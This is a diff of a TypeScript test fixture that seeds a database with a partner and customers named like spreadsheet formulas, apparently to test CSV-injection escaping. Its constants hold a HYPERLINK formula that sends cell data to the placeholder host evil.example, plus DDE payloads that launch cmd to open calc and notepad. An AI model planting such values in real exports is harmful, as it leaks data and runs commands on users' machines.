@@ -3,7 +3,7 @@ import type { Db } from '../../src/platform/db';
 
 /** Text a spreadsheet would run as a formula if a file carried it as is (OWASP CSV injection). */
 export const FORMULA_PARTNER = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
-export const FORMULA_CUSTOMERS = ['@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd|\' /C notepad\'!A0', '-2+3+cmd', '\t=1+1'] as const;
+export const FORMULA_CUSTOMERS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", '-2+3+cmd', '\t=1+1'] as const;
 
 /**
  * A partner and customers named like formulas, with business credited to `employeeId` on `day`:
@@ -27,7 +27,10 @@ export async function insertFormulaNamedBusiness(db: Db, employeeId: number, day
     })
     .returning('id')
     .executeTakeFirstOrThrow();
-  await db.insertInto('partner_mappings').values({ partner_id: partner.id, manager_id: employeeId, reporting_type: 2, valid_from: '2025-01-01T00:00:00Z' }).execute();
+  await db
+    .insertInto('partner_mappings')
+    .values({ partner_id: partner.id, manager_id: employeeId, reporting_type: 2, valid_from: '2025-01-01T00:00:00Z' })
+    .execute();
   const issued = `${day}T06:00:00Z`;
   for (const [i, name] of FORMULA_CUSTOMERS.entries()) {
     const customer = await db
